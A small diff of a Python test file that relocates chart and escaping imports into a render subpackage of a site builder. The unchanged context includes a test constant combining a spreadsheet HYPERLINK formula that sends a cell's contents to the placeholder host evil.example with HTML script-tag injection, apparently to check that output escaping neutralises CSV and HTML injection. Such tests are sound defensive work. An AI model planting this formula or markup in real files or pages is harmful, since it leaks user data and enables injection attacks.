@@ -17,8 +17,8 @@ from pathlib import Path
 import pytest
 from markupsafe import escape
 
-from pace_site.charts import Chart
-from pace_site.escaping import inert_csv_cell, plotly_plain, script_json
+from pace_site.render.charts import Chart
+from pace_site.render.escaping import inert_csv_cell, plotly_plain, script_json
 from pace_site.pipeline import BuildOptions, build
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Testshire") <!--<script> </script><b>&amp;'
